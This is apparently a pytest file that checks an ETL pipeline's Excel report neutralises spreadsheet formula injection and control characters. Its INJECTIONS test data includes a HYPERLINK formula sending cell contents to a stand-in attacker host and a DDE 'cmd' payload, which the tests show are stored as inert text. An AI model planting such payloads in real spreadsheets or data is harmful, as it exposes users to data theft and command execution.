"""Hostile text in the Excel report (etl/export/excel.py, etl/export/report.py): nothing from the data
runs as a formula, and characters a workbook cannot store neither stop the report nor vanish.

Customer names, addresses and regions starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return
(OWASP's CSV / spreadsheet injection list), an error code (``#N/A``), and names holding C0 control
characters go through the real report (Spark, gold from the registry, openpyxl write-only); the
workbook is read back with openpyxl. Run date D = 2026-03-15, as in test_excel_report.py.
"""

from __future__ import annotations

from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from etl.contracts.silver import BEGINNING_OF_TIME, CUSTOMER_ID_MAP, DIM_CUSTOMER, END_OF_TIME, TRANSACTIONS
from etl.export.excel import FORMULA_TRIGGERS, Formula, set_text, text_value, visible_text
from etl.export.report import CUSTOMER_COLUMNS, build_report
from tests.unit.test_excel_report import RUN_DATE, gold_for, reader, tx

# (first name, address, region): every one a formula, a formula trigger or an error code to a spreadsheet.
INJECTIONS = [
    ("=1+2", "1 High St", "North"),
    ('=HYPERLINK("http://attacker.invalid/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1"),
    ("+41 22 555", "+2 Mill Rd", "+East"),
    ("-2+3", "-3 Park Ln", "-West"),
    ("@SUM(A1:A9)", "@4 Lake Ave", "@South"),
    ("\tTabbed", "\t5 Tab Rd", "North"),
    ("\rReturned", "\r6 Return Rd", "North"),
    ("#N/A", "#REF!", "#DIV/0!"),
]
# C0 control characters (not tab, LF, CR): XML 1.0 cannot hold them, openpyxl raises on them.
CONTROLS = [
    ("Ctl\x01Name", "7 Bell St\x07", "North"),
    ("\x1bEscaped", "8 Null Rd\x00", "Ea\x0bst"),
    ("=Both\x02", "9 Vertical\x0cFeed", "North"),
]


def dim_rows(people):
    return [(i, first, "Z", address, "560001", f"98765432{i:02d}", region, date(2025, 1, 1),
             BEGINNING_OF_TIME, END_OF_TIME, True) for i, (first, address, region) in enumerate(people, start=1)]


def build(spark, tmp_path_factory, people):
    """The report for customers ``people``: each has one order on D and one on D-1, so every name reaches
    the customer sheet, both order sheets, the gold marts and the Summary's top-customers chart data."""
    silver = {
        "transactions": spark.createDataFrame(
            [tx(f"d{i}", "store", i, RUN_DATE, f"{10 * i}.00", store=1, person=11) for i in range(1, len(people) + 1)]
            + [tx(f"p{i}", "store", i, date(2026, 3, 14), "5.00", store=1, person=11)
               for i in range(1, len(people) + 1)], TRANSACTIONS),
        "dim_customer": spark.createDataFrame(dim_rows(people), DIM_CUSTOMER),
        "customer_id_map": spark.createDataFrame([(i, i) for i in range(1, len(people) + 1)], CUSTOMER_ID_MAP),
    }
    result = build_report(spark, reader(silver, gold_for(spark, silver, RUN_DATE)), RUN_DATE,
                          tmp_path_factory.mktemp("hostile"), 1_048_576)
    return result, load_workbook(result.path)


@pytest.fixture(scope="module")
def injected(spark, tmp_path_factory):
    return build(spark, tmp_path_factory, INJECTIONS)


@pytest.fixture(scope="module")
def controls(spark, tmp_path_factory):
    return build(spark, tmp_path_factory, CONTROLS)


def formula_cells(workbook):
    return [(sheet.title, cell.coordinate, cell.value) for sheet in workbook for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def customers(workbook):
    """Customer id -> its cells by column name (the header shows the names in words)."""
    sheet = workbook["Customers"]
    return {row[0].value: {c: cell for c, cell in zip(CUSTOMER_COLUMNS, row)} for row in sheet.iter_rows(min_row=2)}


def test_no_cell_of_the_report_is_a_formula(injected):
    _, workbook = injected
    # The report writes no formula on purpose (its charts reference cells; those are not cell formulas).
    assert formula_cells(workbook) == []


def test_every_injected_value_reads_back_as_the_same_text_with_the_quote_prefix(injected):
    _, workbook = injected
    rows = customers(workbook)
    for customer, (first, address, region) in enumerate(INJECTIONS, start=1):
        row = rows[customer]
        for column, expected in (("full_name", f"{first} Z"), ("address", address), ("region", region)):
            cell = row[column]
            assert (cell.value, cell.data_type) == (expected, "s"), (customer, column)
            # Excel keeps a quote-prefixed cell as text also when a user edits it
            assert cell.quotePrefix == expected.startswith(FORMULA_TRIGGERS), (customer, column)


def test_injected_names_are_text_on_every_sheet_they_reach(injected):
    _, workbook = injected
    names = {f"{first} Z" for first, _, _ in INJECTIONS}
    regions = {region for _, _, region in INJECTIONS}
    found = {}
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                hit = text if text in names | regions else next((n for n in names if text.startswith(n + " (#")), None)
                if hit:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    found.setdefault(sheet.title, set()).add(hit)
    # the orders sheets, the gold marts, the regional KPI and the Summary (chart data, top region) all had some
    assert {"Customers", "Current_Day_Orders", "Archived_Previous_Day", "KPI_Regional_Revenue",
            "KPI_Top_Customers_Last_30_Days", "Customers_Data_Mart", "Summary"} <= set(found)
    assert names <= found["Current_Day_Orders"] and regions <= found["KPI_Regional_Revenue"]


def test_control_characters_do_not_stop_the_report_and_stay_visible(controls):
    result, workbook = controls
    rows = customers(workbook)
    for customer, (first, address, region) in enumerate(CONTROLS, start=1):
        row = rows[customer]
        assert row["full_name"].value == visible_text(f"{first} Z")
        assert row["address"].value == visible_text(address)
        assert row["region"].value == visible_text(region)
    assert rows[1]["full_name"].value == "Ctl\u2401Name Z"            # U+2401 SYMBOL FOR START OF HEADING
    assert rows[2]["address"].value == "8 Null Rd\u2400"
    assert rows[3]["full_name"].data_type == "s" and rows[3]["full_name"].quotePrefix
    assert formula_cells(workbook) == []
    assert result.sheets[0].name == "Customers" and result.sheets[0].replaced == 7  # 3 names, 3 addresses, 1 region
    notes = [row[0].value for row in workbook["Summary"].iter_rows(max_col=1) if isinstance(row[0].value, str)]
    assert any(n.startswith("Customers: 7 value(s) held control characters") for n in notes)


# -- the helpers, without Spark -------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("plain", "plain"),
    ("a\x01b", "a\u2401b"), ("\x00", "\u2400"), ("\x1f", "\u241f"),
    ("tab\tlf\ncr\r", "tab\tlf\ncr\r"),                      # the three XML allows stay as they are
    ("x\ufffey\uffff", "x\ufffdy\ufffd"),
])
def test_visible_text(value, expected):
    assert visible_text(value) == expected


def test_a_formula_written_on_purpose_stays_a_formula(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    data = text_value(sheet, "=1+2")
    meant = text_value(sheet, Formula("=SUM(A1:A1)"))
    plain = text_value(sheet, "plain")
    assert plain == "plain"                     # no cell object for ordinary text
    sheet.append([data, meant, plain])
    workbook.save(tmp_path / "f.xlsx")
    row = next(load_workbook(tmp_path / "f.xlsx")["S"].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [("=1+2", "s"), ("=SUM(A1:A1)", "f"), ("plain", "s")]


def test_set_text_marks_triggers_only():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    from openpyxl.cell import WriteOnlyCell

    for value, prefixed in (("-5", True), ("@x", True), ("a-b", False), ("#N/A", False)):
        cell = WriteOnlyCell(sheet)
        set_text(cell, value)
        assert (cell.data_type, cell.quotePrefix) == ("s", prefixed), value
